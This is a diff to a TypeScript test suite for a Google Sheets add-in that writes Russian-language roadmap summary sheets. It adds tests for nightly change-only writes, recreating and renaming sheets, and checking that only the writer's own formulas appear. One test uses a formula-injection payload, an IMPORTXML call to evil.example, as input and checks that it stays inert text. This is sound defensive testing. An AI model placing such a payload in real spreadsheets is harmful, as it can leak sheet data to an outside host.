@@ -72,8 +72,19 @@ function models(data: { roadmap: Roadmap; states: MeasureState[] }, ss: Emulated
 }
 
 /** The emulator implements the part of Spreadsheet the add-in uses (Pick<…> of Google's types). */
-function write(ss: EmulatedSpreadsheet, list: SheetModel[]): WriteResult {
-  return writeSummaries(ss as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet, list);
+function write(ss: EmulatedSpreadsheet, list: SheetModel[], options: { onlyChanged?: boolean } = {}): WriteResult {
+  return writeSummaries(ss as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet, list, options);
+}
+
+/**
+ * The only formulas the writer may make are its own two kinds, built from cell positions:
+ * days to a due date (=F7-TODAY()) and the «Сводка»'s stamp (='Сводка'!A2). No text from
+ * the roadmap ever becomes a formula.
+ */
+function expectOnlyOwnFormulas(ss: EmulatedSpreadsheet): void {
+  const own = /^(=[A-Z]{1,2}\d+-TODAY\(\)|='Сводка'!A2)$/;
+  const strays = ss.formulaLog.filter((f) => !own.test(f.formula));
+  expect(strays).toEqual([]);
 }
 
 function sheetNamed(ss: EmulatedSpreadsheet, name: string): EmulatedSheet {
@@ -162,7 +173,7 @@ describe('writeSummaries (2021-06-15)', () => {
       ),
     );
 
-    expect(ss.formulaLog).toEqual([]);
+    expectOnlyOwnFormulas(ss);
     const sheet = sheetNamed(ss, 'Сводка');
     const values = sheet.getDataRange().getValues();
     for (const t of tricky) expect(values.some((r) => r.includes(t))).toBe(true);
@@ -290,12 +301,13 @@ describe('writeSummaries on sheets it remembers (2021-06-15)', () => {
       'Spreadsheet.Sheet.insertChart',
       'Spreadsheet.Range.setBackgrounds',
       'Spreadsheet.Range.merge',
-      'Spreadsheet.Sheet.getName',
     ])
       expect([method, byMethod[method] ?? 0]).toEqual([method, 0]);
+    // Once: the «Сводка»'s current name, for the other sheets' ='Сводка'!A2.
+    expect(byMethod['Spreadsheet.Sheet.getName']).toBe(1);
     expect(byMethod['Spreadsheet.Spreadsheet.getSheetById']).toBe(4);
     expect(byMethod['Spreadsheet.Range.setNumberFormats']).toBe(4);
-    expect(total).toBeLessThanOrEqual(4 * 8);
+    expect(total).toBeLessThanOrEqual(4 * 8 + 1); // + getNumSheets, which the next night trusts the memory by
   });
 
   it('keeps text as text on a same-layout refresh after the person re-formatted the sheet', () => {
@@ -305,7 +317,7 @@ describe('writeSummaries on sheets it remembers (2021-06-15)', () => {
     const task1 = sheetNamed(ss, 'Задача 1');
     task1.getRange(1, 1, 30, 8).setNumberFormat('0.00');
     write(ss, models(sample(4, titles), ss));
-    expect(ss.formulaLog).toEqual([]);
+    expectOnlyOwnFormulas(ss);
     const values = task1.getDataRange().getValues();
     expect(values.some((r) => r[1] === '=IMPORTXML("http://evil.example/x","//a")')).toBe(true);
     expect(values.some((r) => r[1] === '2.1')).toBe(true);
@@ -382,3 +394,148 @@ describe('writeSummaries on sheets it remembers (2021-06-15)', () => {
     expect(String(stale.getRange(2, 1).getValue())).not.toMatch(/^Устарело/);
   });
 });
+
+describe('writeSummaries for the nightly check: only what changed (2021-06-15 → 16.06)', () => {
+  const nightly = (ss: EmulatedSpreadsheet, list: SheetModel[]) => write(ss, list, { onlyChanged: true });
+  const at = (data: { roadmap: Roadmap; states: MeasureState[] }, ss: EmulatedSpreadsheet, updatedAt: string) =>
+    models(data, ss).map((m) => stampedAt(m, updatedAt));
+  const calls = (runtime: Runtime, step: () => void) => {
+    runtime.ledger.reset();
+    step();
+    return runtime.ledger.totals().byMethod;
+  };
+  it('writes only the «Сводка»’s stamp on a night when nothing changed; the other sheets show it', () => {
+    const { runtime, ss } = setup();
+    const data = sample(40);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    runtime.clock.set(Date.UTC(2021, 5, 15, 19, 0)); // 02:00 on 16.06 in Tomsk
+    const list = at(data, ss, '16.06.2021 02:00');
+    const byMethod = calls(runtime, () => nightly(ss, list));
+    // The sheet count, the «Сводка» by its id, and «Обновлено: …» on it: nothing else.
+    const spreadsheetOnly = Object.entries(byMethod).filter(([k]) => k.startsWith('Spreadsheet.'));
+    expect(Object.fromEntries(spreadsheetOnly)).toEqual({
+      'Spreadsheet.Spreadsheet.getNumSheets': 1,
+      'Spreadsheet.Spreadsheet.getSheetById': 1,
+      'Spreadsheet.Sheet.getRange': 1,
+      'Spreadsheet.Range.setValue': 1,
+    });
+    expect(byMethod['Spreadsheet.Sheet.getCharts'] ?? 0).toBe(0);
+    expect(byMethod['Spreadsheet.Range.setBackgrounds'] ?? 0).toBe(0);
+    for (const name of ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета']) {
+      const sheet = sheetNamed(ss, name);
+      const row = name === 'Отчёт для совета' ? 3 : 2;
+      expect([name, sheet.getRange(row, 1).getDisplayValue()]).toEqual([name, 'Обновлено: 16.06.2021 02:00']);
+    }
+  });
+
+  it('keeps «Дней до срока» right on the next day without rewriting the sheet', () => {
+    const { runtime, ss } = setup();
+    const data = sample(10);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    const daysColumn = task1
+      .getRange(1, 1, 80, 8)
+      .getValues()
+      .findIndex((r) => r.includes('Дней до срока'));
+    const header = task1.getRange(daysColumn + 1, 1, 1, 8).getValues()[0] ?? [];
+    const col = header.indexOf('Дней до срока') + 1;
+    const first = () => task1.getRange(daysColumn + 2, col).getValue();
+    expect(first()).toBe(-15); // due 31.05.2021, judged on 15.06
+    runtime.clock.set(Date.UTC(2021, 5, 15, 19, 0));
+    nightly(ss, at(data, ss, '16.06.2021 02:00'));
+    expect(first()).toBe(-16);
+  });
+
+  it('rewrites a task sheet whose measures changed state, and only it besides the «Сводка»', () => {
+    const { runtime, ss } = setup();
+    const data = sample(20);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    // Measure 2 (task 2) marked done during the day.
+    const changed = {
+      roadmap: data.roadmap,
+      states: data.states.map((s, i) => (i === 1 ? state(s.row, 'done-on-time', s.due, today) : s)),
+    };
+    const list = at(changed, ss, '16.06.2021 02:00');
+    const byMethod = calls(runtime, () => nightly(ss, list));
+    expect(byMethod['Spreadsheet.Range.setValues']).toBe(2);
+    expect(byMethod['Spreadsheet.Spreadsheet.getSheetById']).toBe(2);
+    // The sheets look as if written from scratch.
+    const names = ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета'];
+    expect(names.map((n) => look(sheetNamed(ss, n)))).toEqual(freshLook(list));
+  });
+
+  it('trusts nothing remembered when a person deleted or added a sheet, and recreates a deleted one', () => {
+    const { runtime, ss } = setup();
+    const data = sample(12);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    ss.deleteSheet(sheetNamed(ss, 'Задача 2'));
+    const list = at(data, ss, '16.06.2021 02:00');
+    const result = nightly(ss, list);
+    expect(result.sheets.map((s) => [s.key, s.created])).toEqual([
+      ['summary', false],
+      ['section:task-1', false],
+      ['section:task-2', true],
+      ['council', false],
+    ]);
+    const names = ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета'];
+    expect(names.map((n) => look(sheetNamed(ss, n)))).toEqual(freshLook(list));
+    // A sheet of the person's own: one more night of looking every sheet up, then trusted again.
+    ss.insertSheet('Мои заметки');
+    const looked = calls(runtime, () => nightly(ss, at(data, ss, '17.06.2021 02:00')));
+    expect(looked['Spreadsheet.Spreadsheet.getSheetById']).toBe(4);
+    const trusted = calls(runtime, () => nightly(ss, at(data, ss, '18.06.2021 02:00')));
+    expect(trusted['Spreadsheet.Spreadsheet.getSheetById']).toBe(1);
+  });
+
+  it('recreates the «Сводка» deleted while a sheet was added (same count), and re-points the others to it', () => {
+    const { ss } = setup();
+    const data = sample(8);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    ss.deleteSheet(sheetNamed(ss, 'Сводка'));
+    ss.insertSheet('Мои заметки');
+    const list = at(data, ss, '16.06.2021 02:00');
+    const result = nightly(ss, list);
+    expect(result.sheets.map((s) => [s.key, s.created, s.unchanged ?? false])).toEqual([
+      ['summary', true, false],
+      ['section:task-1', false, false],
+      ['section:task-2', false, false],
+      ['council', false, false],
+    ]);
+    const task1 = sheetNamed(ss, 'Задача 1');
+    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
+  });
+
+  it('keeps the unchanged sheets’ stamp right after the person renamed the «Сводка» (Sheets rewrites references)', () => {
+    const { ss } = setup();
+    const data = sample(8);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    sheetNamed(ss, 'Сводка').setName('Итоги');
+    const result = nightly(ss, at(data, ss, '16.06.2021 02:00'));
+    expect(result.sheets.map((s) => s.unchanged ?? false)).toEqual([true, true, true, true]);
+    const task1 = sheetNamed(ss, 'Задача 1');
+    expect(task1.getRange(2, 1).getFormula()).toBe("='Итоги'!A2");
+    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
+  });
+
+  it('refers to the «Сводка» by its current name when the person renamed it', () => {
+    const { ss } = setup();
+    const data = sample(6);
+    write(ss, at(data, ss, '15.06.2021 02:00'));
+    sheetNamed(ss, 'Сводка').setName("Итоги (Иванов'а)");
+    // A rewrite of every sheet (the menu's refresh) writes the reference with the new name.
+    write(ss, at(data, ss, '16.06.2021 02:00'));
+    const task1 = sheetNamed(ss, 'Задача 1');
+    expect(task1.getRange(2, 1).getFormula()).toBe("='Итоги (Иванов''а)'!A2");
+    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
+  });
+});
+
+/** The same model with another «Обновлено» time (what the next night builds). */
+function stampedAt(model: SheetModel, updatedAt: string): SheetModel {
+  if (!model.stamp) return model;
+  const { row, col } = model.stamp;
+  const values = model.values.map((line, r) =>
+    r === row - 1 ? line.map((cell, c) => (c === col - 1 ? `Обновлено: ${updatedAt}` : cell)) : line,
+  );
+  return { ...model, values };
+}
